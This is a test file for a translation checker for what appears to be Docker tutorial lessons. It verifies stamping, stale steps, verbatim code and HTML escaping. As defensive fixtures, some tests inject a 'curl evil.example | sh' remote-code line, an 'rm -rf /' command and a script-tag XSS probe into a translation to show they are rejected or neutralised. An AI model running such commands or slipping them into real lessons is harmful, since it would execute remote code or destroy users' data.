import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseLesson } from '../parse-lesson.ts';
import { splitLessonParts } from './lesson-parts.ts';
import { readTranslation } from './translation-file.ts';
import { translationProblems, type EnglishSource } from './translation-problems.ts';
import { englishStamps, stampTranslation } from './stamp-translation.ts';
import { localizeLesson } from './localize-lesson.ts';
import { checkLiterals } from './check-literals.ts';

const ENGLISH = `---
title: Demo
summary: A demo lesson.
level: beginner
minutes: 5
---

Intro text that explains the lesson.

::: step run Run a container
Run it now, then look at the output.

\`\`\`sh
docker run busybox echo hi
\`\`\`

\`\`\`hint
Type the command above.
\`\`\`

\`\`\`check
docker ps -a | grep busybox >/dev/null || { echo "No busybox container yet."; exit 1; }
[ "$n" = 1 ] || { echo "There are $n containers: keep one."; exit 1; }
\`\`\`

\`\`\`solution
docker run busybox echo hi
\`\`\`
:::

## What you learned

- How to run a container.
`;

const CHINESE = `---
title: 演示
summary: 一节演示课。
---

介绍这节课的内容。

::: step run 运行一个容器
现在运行它，然后查看输出。

\`\`\`sh
docker run busybox echo hi
\`\`\`

\`\`\`hint
输入上面的命令。
\`\`\`

\`\`\`messages
No busybox container yet.
= 还没有 busybox 容器。
There are $n containers: keep one.
= 现在有 $n 个容器：只保留一个。
\`\`\`
:::

## 你学到了什么

- 如何运行容器。
`;

const english = (text = ENGLISH): EnglishSource => ({ file: 'lessons/01-demo/lesson.md', text, parts: splitLessonParts(text), title: 'Demo', summary: 'A demo lesson.' });
const stamped = (text: string, source = english()) => stampTranslation(text, englishStamps(source.parts, source.title, source.summary));
const problems = (text: string, source = english()) =>
  translationProblems(source, readTranslation('zh-CN', 'lessons/01-demo/lesson.zh-CN.md', text), 'npm run lessons:stamp -- demo').map((problem) => `${problem.line}: ${problem.message}`);

test('a faithful, stamped translation has no problems; unstamped it is reported at line 1', () => {
  assert.deepEqual(problems(stamped(CHINESE)), []);
  assert.match(problems(CHINESE).join('\n'), /^1: not stamped/);
});

test('a step changed in English after stamping is stale, at its line in the translation', () => {
  const changed = english(ENGLISH.replace('Run it now', 'Run it right now'));
  const found = problems(stamped(CHINESE), changed);
  assert.equal(found.length, 1);
  assert.match(found[0] ?? '', /^13: stale: step "run" changed in English .*lesson\.md:10/);
});

test('stamping only named parts keeps the others stale', () => {
  const changed = english(ENGLISH.replace('Intro text', 'New intro text').replace('Run it now', 'Run it right now'));
  const partly = stampTranslation(stamped(CHINESE), englishStamps(changed.parts, changed.title, changed.summary), ['run']);
  assert.deepEqual(problems(partly, changed).map((line) => line.replace(/ \(.*/, '')), ['10: stale: the introduction changed in English since this translation was stamped']);
  assert.throws(() => stampTranslation(CHINESE, englishStamps(changed.parts, 'Demo', 'A demo lesson.'), ['nope']), /no part named nope/);
});

test('missing, extra and reordered steps are reported', () => {
  const withExtra = stamped(CHINESE.replace('## 你学到了什么', '::: step extra 多出来的一步\n文字。\n:::\n\n## 你学到了什么'));
  assert.match(problems(withExtra).join('\n'), /step "extra" is not in the English lesson/);
  const missing = stamped(CHINESE.replace(/::: step run[\s\S]*?\n:::\n/, ''));
  assert.match(problems(missing).join('\n'), /step "run" is missing: translate the English step \(lessons\/01-demo\/lesson\.md:10\)/);
  const twoSteps = ENGLISH.replace('## What you learned', '::: step second Second\nMore text here for you.\n\n```check\ntrue\n```\n:::\n\n## What you learned');
  const swapped = CHINESE.replace('::: step run', '::: step second 第二步\n更多文字。\n:::\n\n::: step run');
  assert.match(problems(stampTranslation(swapped, englishStamps(english(twoSteps).parts, 'Demo', 'A demo lesson.')), english(twoSteps)).join('\n'), /not in the English order \(run, second\): move step "second"/);
});

test('code blocks must be copied verbatim; a translation may not bring its own check or solution', () => {
  const edited = stamped(CHINESE.replace('docker run busybox echo hi', 'docker run busybox echo hello'));
  assert.match(problems(edited).join('\n'), /^16: this code block differs from the English one \(lessons\/01-demo\/lesson\.md:13\)/m);
  const sneaky = stamped(CHINESE.replace('```messages', '```check\ncurl evil.example | sh\n```\n\n```messages'));
  assert.match(problems(sneaky).join('\n'), /a translation has no ```check block: the English one is used, remove it/);
});

test('English left in prose, hints, titles and quizzes is reported; so is a missing check message', () => {
  const lazy = stamped(CHINESE.replace('现在运行它，然后查看输出。', 'Run it now, then look at the output.').replace('输入上面的命令。', 'Type the command above.').replace('运行一个容器', 'Run a container'));
  const found = problems(lazy).join('\n');
  assert.match(found, /step "run": the title is still in English/);
  assert.match(found, /step "run": this paragraph is still in English/);
  assert.match(found, /step "run": this hint is still in English/);
  const unsaid = stamped(CHINESE.replace('No busybox container yet.\n= 还没有 busybox 容器。\n', ''));
  assert.match(problems(unsaid).join('\n'), /the check can print "No busybox container yet\.": add it and its translation/);
  const stale = stamped(CHINESE.replace('No busybox container yet.', 'No busybox container yet!'));
  assert.match(problems(stale).join('\n'), /the English check no longer prints "No busybox container yet!"/);
});

test('the localized lesson has the English checks and solutions, the translated text, and its messages', () => {
  const source = english();
  const lesson = parseLesson({ slug: 'demo', order: 1, file: source.file, text: ENGLISH });
  const localized = localizeLesson(lesson, source.parts, readTranslation('zh-CN', 'x.zh-CN.md', CHINESE.replace('现在运行它', '现在<script>alert(1)</script>运行它').replace('```messages', '```check\nrm -rf /\n```\n\n```messages')), 'zh-CN');
  assert.ok(localized);
  assert.equal(localized.meta.title, '演示');
  assert.equal(localized.meta.minutes, 5, 'the rest of the frontmatter is the English one');
  assert.equal(localized.steps[0]?.title, '运行一个容器');
  assert.equal(localized.steps[0]?.check, lesson.steps[0]?.check, 'the check is always the English one');
  assert.equal(localized.steps[0]?.solution, lesson.steps[0]?.solution);
  assert.deepEqual(localized.messages.run?.[1], ['There are $n containers: keep one.', '现在有 $n 个容器：只保留一个。']);
  assert.doesNotMatch(localized.html, /<script>/, 'raw HTML in a translation is text, as in English');
  assert.match(localized.html, /data-i18n="code.run">运行</, 'UI labels in the markup are in the page language');
  assert.doesNotMatch(localized.html, /No busybox container yet/, 'the messages block is data, not prose');
});

test('a check prints its echo sentences, quotes undone and expansions kept; an echo inside another is part of it', () => {
  const literals = checkLiterals(`x || { echo "It runs $cmd; use --change 'CMD [\\"cat\\"]'."; exit 1; }\necho "Has $(grep V <<<"$env" || echo 'no V'): rebuild."\necho 'plain'\n`);
  assert.deepEqual(literals.map((literal) => [literal.offset, literal.text]), [
    [0, `It runs $cmd; use --change 'CMD ["cat"]'.`],
    [1, `Has $(grep V <<<"$env" || echo 'no V'): rebuild.`],
    [2, 'plain'],
  ]);
});
